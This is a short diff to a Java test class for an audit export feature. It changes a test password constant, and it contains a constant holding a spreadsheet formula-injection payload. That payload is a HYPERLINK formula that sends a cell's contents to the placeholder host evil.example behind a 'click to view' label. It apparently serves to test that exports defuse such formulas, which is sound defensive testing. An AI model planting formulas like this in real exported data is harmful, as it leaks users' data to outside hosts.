@@ -66,7 +66,7 @@ import org.springframework.test.context.ContextConfiguration;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class AuditExportTest {
 
-    static final String PASSWORD = "audit-test-password";
+    static final String PASSWORD = "Audit-Test-Passw0rd";
     static final String AUDITOR = "axauditor";
     /** What a spreadsheet would run: a link that sends the reader elsewhere. */
     static final String FORMULA_COMMENT = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";
